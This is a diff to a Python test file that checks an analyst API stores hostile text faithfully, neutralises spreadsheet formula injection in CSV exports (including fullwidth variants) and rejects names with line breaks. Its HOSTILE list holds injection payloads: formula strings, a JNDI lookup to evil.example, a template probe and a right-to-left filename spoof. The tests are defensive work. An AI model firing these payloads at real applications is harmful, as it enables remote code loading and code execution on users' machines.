@@ -22,8 +22,11 @@ HOSTILE = [
     "\t=1+1",
     "${jndi:ldap://evil.example/a} {{7*7}} %s %n",
     "‮gnp.exe ünïcödé 日本 🎪 \u200b",
-    '"quoted", commas, and\nline feeds',
+    '"quoted", commas; =1+1',
+    "＝1+1",
+    "＋1;＠SUM(1);\t-1",
 ]
+LINES = '"quoted", commas, and\nline feeds'
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -44,6 +47,16 @@ def test_text_comes_back_as_it_was(workshop: Workshop, analyst: Api, text: str) 
     assert event["report_group_id"] in {e["report_group_id"] for e in found}
 
 
+def test_a_comment_has_lines_and_a_name_has_one(analyst: Api) -> None:
+    report = analyst.get("/api/reports", limit=1)["items"][0]
+    event = analyst.get("/api/events", limit=1)["items"][0]
+    assert analyst.edit("reports", report, action="comment", comment=LINES).json()["edits"][0]["comment"] == LINES
+    for name in (LINES, "a\n", "a\u2028b"):
+        refused = analyst.edit("events", event, action="rename", name=name)
+        assert refused.status_code == 422, name
+        assert "line breaks" in refused.json()["errors"][0]["message"]
+
+
 def test_a_spreadsheet_runs_nothing_of_an_export(workshop: Workshop, analyst: Api) -> None:
     events = analyst.get("/api/events", limit=len(HOSTILE))["items"]
     names = {}
@@ -56,10 +69,11 @@ def test_a_spreadsheet_runs_nothing_of_an_export(workshop: Workshop, analyst: Ap
     rows: list[dict[str, Any]] = list(csv.DictReader(io.StringIO(answer.content.decode())))
     assert len(rows) == link["rows"]
     for row in rows:
-        assert all(cell[:1] not in ("=", "+", "@", "\t", "\r") for cell in row.values())
-        assert not row["name"].startswith("-")
+        cells = [cell for value in row.values() for cell in value.split(";")]
+        assert all(cell.strip()[:1] not in tuple("=+@＝＋－＠") for cell in cells)
+        assert all(not cell.strip().startswith("-") for cell in row["name"].split(";"))
         expected = names.get(row["report_group_id"], row["name"])
-        assert row["name"].removeprefix("'") == expected.removeprefix("'")
+        assert row["name"].replace("'", "") == expected.replace("'", "")
 
 
 def test_a_control_character_is_refused(analyst: Api) -> None:
